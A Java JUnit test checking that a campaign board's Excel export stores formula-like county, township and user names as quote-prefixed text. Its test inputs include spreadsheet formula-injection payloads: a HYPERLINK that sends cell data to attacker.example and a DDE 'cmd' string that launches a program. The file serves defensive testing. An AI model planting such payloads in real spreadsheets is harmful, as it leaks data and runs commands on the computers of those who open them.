package cn.fazhi.flow.campaign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.ArgumentMatchers.anyString;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.when;

import cn.fazhi.flow.base.Messages;
import cn.fazhi.flow.report.ReportStatus;
import java.io.ByteArrayInputStream;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The board's .xlsx against formula injection: a county, township or user name that starts as a formula would stays
 * the same text in a text cell that Excel keeps text even when the cell is edited.
 */
class BoardWorkbookTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://attacker.example/?\"&A1,\"点此\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1,2)",
                "\t=1+1",
                "\r=1+1"
            })
    void aNameThatLooksLikeAFormulaStaysText(String name) throws Exception {
        Messages messages = mock(Messages.class);
        when(messages.get(any(Locale.class), anyString(), any(Object[].class)))
                .thenAnswer(call -> Arrays.stream(call.getArguments())
                        .skip(1)
                        .flatMap(a -> a instanceof Object[] args ? Arrays.stream(args) : Stream.of(a))
                        .map(String::valueOf)
                        .collect(Collectors.joining(" ")));
        Instant now = Instant.parse("2026-03-01T00:00:00Z");
        CampaignSummary campaign =
                new CampaignSummary(1, 1, name, 2026, now, 10, 10, LocalDate.of(2027, 4, 1), "admin", now, 1, true);
        BoardRow row = new BoardRow(1, name, 7, ReportStatus.DRAFTING, null, "x", name, null, now, 3L, false, 0, now);

        byte[] xlsx = new BoardWorkbook(messages, Locale.CHINESE, ZoneId.of("Asia/Shanghai"))
                .write(campaign, List.of(row), now);

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = book.getSheetAt(0);
            Cell title = sheet.getRow(0).getCell(0);
            Cell township = sheet.getRow(BoardWorkbook.HEADER_ROWS + 1).getCell(0);
            Cell holder = sheet.getRow(BoardWorkbook.HEADER_ROWS + 1).getCell(3);
            for (Cell cell : List.of(title, township, holder)) {
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
            }
            assertThat(township.getStringCellValue()).isEqualTo(name);
            assertThat(holder.getStringCellValue()).isEqualTo(name);
            assertThat(title.getStringCellValue()).contains(name);
            assertThat(book.getFontAt(title.getCellStyle().getFontIndex()).getBold())
                    .isTrue();
        }
    }
}
